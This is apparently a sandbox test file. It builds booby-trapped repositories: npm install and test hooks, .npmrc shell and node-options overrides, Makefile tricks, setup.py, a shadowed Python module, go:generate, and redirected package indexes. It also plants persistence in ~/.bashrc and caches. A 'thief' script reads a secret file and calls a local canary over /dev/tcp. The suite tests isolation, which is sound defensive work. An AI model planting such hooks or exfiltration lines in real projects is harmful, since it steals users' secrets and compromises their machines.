import { mkdir, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { dirname, join } from 'node:path';
import { createSandbox, type Box } from '../../src/sandbox/index.ts';
import { once, sharedClass, type Attempt, type Case } from './case.ts';
import { openGround, runBare, type Ground } from './ground.ts';
import { listenOn } from './listen.ts';

/** A repository that runs a program of its own as soon as somebody uses its tools: what is in it, and what is run. */
interface Trap {
  readonly name: string;
  readonly files: Readonly<Record<string, string>>;
  readonly command: string;
  /** It asks a package server of the attacker's and runs nothing: being asked is the harm. */
  readonly asks?: true;
}

/** What the program does: takes a file of the host, and calls home. */
const thief = (secretPath: string, port: number) =>
  `cat ${secretPath} 2>/dev/null; (exec 3<>/dev/tcp/127.0.0.1/${port}) 2>/dev/null; echo thief ran\n`;

const run = 'bash ./thief.sh';
const pkg = (change: object) => JSON.stringify({ name: 'trap', version: '1.0.0', ...change });
const npm = 'npm --no-update-notifier --no-audit --no-fund --loglevel=error';
const python = '/usr/bin/python3';

const traps: readonly Trap[] = [
  { name: 'npm’s test script', files: { 'package.json': pkg({ scripts: { test: run } }) }, command: `${npm} test` },
  {
    name: 'a script before npm’s test script',
    files: { 'package.json': pkg({ scripts: { pretest: run, test: 'true' } }) },
    command: `${npm} test`,
  },
  ...['preinstall', 'postinstall', 'prepare'].map((script): Trap => ({
    name: `npm’s ${script} script`,
    files: { 'package.json': pkg({ scripts: { [script]: run } }) },
    command: `${npm} install --offline --foreground-scripts`,
  })),
  {
    name: '.npmrc’s shell',
    files: {
      'package.json': pkg({ scripts: { test: 'true' } }),
      '.npmrc': 'script-shell=./shell\n',
      shell: `#!/bin/bash\n${run}\n`,
    },
    command: `${npm} test`,
  },
  {
    name: '.npmrc’s options for Node',
    files: {
      'package.json': pkg({ scripts: { test: 'node -e 0' } }),
      '.npmrc': 'node-options=--require ./trap.cjs\n',
      'trap.cjs': "require('node:child_process').execSync('bash ./thief.sh', { stdio: 'inherit', env: {} })",
    },
    command: `${npm} test`,
  },
  {
    name: 'a test of Node’s runner',
    files: { 'a.test.js': "require('node:child_process').execSync('bash ./thief.sh', { stdio: 'inherit' })" },
    command: 'node a.test.js',
  },
  { name: 'a Makefile', files: { Makefile: `test:\n\t${run}\n` }, command: 'make test' },
  {
    name: 'a Makefile that is only read',
    files: { Makefile: `X := $(shell ${run} >&2)\ntest:\n\ttrue\n` },
    command: 'make -n test',
  },
  {
    name: 'a Makefile’s shell',
    files: { Makefile: 'SHELL = ./shell\ntest:\n\ttrue\n', shell: `#!/bin/bash\n${run}\n` },
    command: 'make test',
  },
  {
    name: 'setup.py',
    files: { 'setup.py': "import os; os.system('bash ./thief.sh')" },
    command: `${python} setup.py --version`,
  },
  {
    name: 'a Python test',
    files: { 'test_a.py': "import os; os.system('bash ./thief.sh')" },
    command: `${python} -m unittest test_a`,
  },
  {
    name: 'a module named like one of Python’s',
    files: { 'random.py': "import os; os.system('bash ./thief.sh')", 'a.py': 'import random' },
    command: `${python} a.py`,
  },
  {
    name: 'go generate',
    files: { 'go.mod': 'module a\n', 'a.go': `package a\n\n//go:generate ${run}\n` },
    command: 'go generate ./...',
  },
  {
    name: 'an index of .npmrc’s',
    files: { 'package.json': pkg({}), '.npmrc': 'registry=http://127.0.0.1:PORT/\nfetch-retries=0\n' },
    command: `${npm} view left-pad`,
    asks: true,
  },
  {
    name: 'a proxy of .npmrc’s',
    files: {
      'package.json': pkg({}),
      '.npmrc': 'registry=http://10.0.0.1/\nproxy=http://127.0.0.1:PORT/\nfetch-retries=0\n',
    },
    command: `${npm} view left-pad`,
    asks: true,
  },
  {
    name: 'an index of pip.conf’s',
    files: { 'pip.conf': '[global]\nindex-url = http://127.0.0.1:PORT/\nretries = 0\n' },
    command: `PIP_CONFIG_FILE=pip.conf ${python} -m pip download left-pad`,
    asks: true,
  },
  {
    name: 'an index of requirements.txt’s',
    files: { 'requirements.txt': '--index-url http://127.0.0.1:PORT/\nleft-pad\n' },
    command: `${python} -m pip download --retries 0 -r requirements.txt`,
    asks: true,
  },
  {
    name: 'a proxy of GOFLAGS and go.env’s',
    files: {
      'go.mod': 'module a\n',
      'go.env': 'GOPROXY=http://127.0.0.1:PORT\nGOFLAGS=-mod=mod\nGONOSUMDB=*\nGONOSUMCHECK=1\n',
    },
    command: 'GOENV=$PWD/go.env go list -m example.com/a@latest',
    asks: true,
  },
  {
    name: 'curl’s settings',
    files: { '.curlrc': 'url = http://127.0.0.1:PORT/\nmax-time = 2\n' },
    command: 'curl -s --config .curlrc',
    asks: true,
  },
];

interface Canary {
  readonly port: number;
  count(): number;
}

async function openCanary(ends: AsyncDisposableStack): Promise<Canary> {
  let count = 0;
  const server = createServer((socket) => {
    count += 1;
    socket.on('error', () => undefined);
    socket.end('HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\nconnection: close\r\n\r\n');
  });
  return { port: await listenOn(server, ends), count: () => count };
}

/** What came of running a trap somewhere. */
interface Loot {
  readonly isTaken: boolean;
  readonly isCalled: boolean;
  readonly hasRun: boolean;
}

interface Scene {
  readonly ground: Ground;
  readonly secret: string;
  readonly secretPath: string;
  readonly canary: Canary;
}

/** Lays the files out in a folder of their own and runs the command there. */
async function spring({ name, files, command }: Trap, scene: Scene, where: 'host' | 'box'): Promise<Loot> {
  const { ground, secret, secretPath, canary } = scene;
  const port = String(canary.port);
  const folder = `trap-${name.replaceAll(/[^a-z]+/gi, '-')}`;
  const root = where === 'host' ? ground.bare : ground.checkout.tree;
  const all = { ...files, 'thief.sh': thief(secretPath, canary.port), 'a.txt': 'a\n', 'b.txt': 'b\n' };
  for (const [path, text] of Object.entries(all)) {
    const target = join(root, folder, path);
    await mkdir(dirname(target), { recursive: true });
    await writeFile(target, text.replaceAll('PORT', port), { mode: 0o755 });
  }
  const before = canary.count();
  const script = `cd ${folder} && ${command}`;
  const output =
    where === 'host'
      ? (await runBare('/bin/bash', ['-c', script], { cwd: root, env: { HOME: ground.bare }, ms: 20_000 })).output
      : (await ground.box.exec(script, 20_000)).output;
  return { isTaken: output.includes(secret), isCalled: canary.count() > before, hasRun: output.includes('thief ran') };
}

function trapCases(scene: Scene): Case[] {
  const [usual] = traps;
  const works = once(
    async () => usual !== undefined && (await spring({ ...usual, name: 'twin' }, scene, 'box')).hasRun,
  );
  return traps.map((trap) => ({
    id: 'D13',
    name: `${trap.name} ${trap.asks ? 'calls a server of the attacker’s' : 'takes a file of the host, or calls home'}`,
    baseline: async () => {
      const { isTaken, isCalled } = await spring(trap, scene, 'host');
      return trap.asks ? isCalled : isTaken && isCalled;
    },
    attack: async () => {
      const { isTaken, isCalled } = await spring(trap, scene, 'box');
      return isTaken || isCalled;
    },
    // The repository's own programs are there to be run: in the box they do.
    twin: trap.asks ? works : async () => (await spring(trap, scene, 'box')).hasRun,
  }));
}

/** Where one job could leave something for the next one. */
const places: readonly (readonly [name: string, path: string])[] = [
  ['npm’s settings', '~/.npmrc'],
  ['npm’s cache', '~/.npm/_cacache/planted'],
  ['pip’s settings', '~/.config/pip/pip.conf'],
  ['Go’s settings', '~/.config/go/env'],
  ['Go’s modules', '~/go/pkg/mod/planted'],
  ['git’s settings', '~/.gitconfig'],
  ['the shell’s start', '~/.bashrc'],
  ['programs of the home folder', '~/.local/bin/npm'],
  ['the temporary folder', '${TMPDIR:-/tmp}/planted'],
  ['the other temporary folder', '/var/tmp/planted'],
  ['the shared memory', '/dev/shm/planted'],
];

/** Plants with one, looks with the next. On the host both have the same home. */
function plantCases({ ground }: Scene, next: Box): Case[] {
  const works: Attempt = once(async () => {
    await ground.box.exec('echo mine > ~/kept', 5000);
    return (await ground.box.exec('cat ~/kept', 5000)).output === 'mine\n'; // within a job it stays
  });
  return places.map(([name, path]) => ({
    id: 'D13',
    name: `a job leaves ${name} for the next job`,
    baseline: async () => {
      const env = { HOME: ground.bare, TMPDIR: ground.bare };
      const target = path.replace(/^\/(?:var\/tmp|dev\/shm)/, '~');
      const plant = { cwd: ground.bare, env };
      await runBare('/bin/bash', ['-c', `mkdir -p "$(dirname ${target})"; echo left-behind > ${target}`], plant);
      return (await runBare('/bin/bash', ['-c', `cat ${target}`], plant)).output.includes('left-behind');
    },
    attack: async () => {
      const { exitCode } = await ground.box.exec(`mkdir -p "$(dirname ${path})"; echo left-behind > ${path}`, 5000);
      if (exitCode !== 0) throw new Error(`nothing can be planted as ${path}`);
      return (await next.exec(`cat ${path}`, 5000)).output.includes('left-behind');
    },
    twin: works,
  }));
}

export const scripts = sharedClass('scripts', async (ends) => {
  const ground = await openGround(ends);
  const secret = `sentinel-${Math.random().toString(36).slice(2)}`;
  const secretPath = join(ground.bare, 'secret.txt');
  await writeFile(secretPath, secret);
  const scene = { ground, secret, secretPath, canary: await openCanary(ends) };
  const checkout = await ground.checkout.again('next');
  const sandbox = createSandbox({ kind: 'bubblewrap', nodePath: process.execPath });
  const next = ends.use(await sandbox.open({ checkout, signal: new AbortController().signal }));
  return [...trapCases(scene), ...plantCases(scene, next)];
});
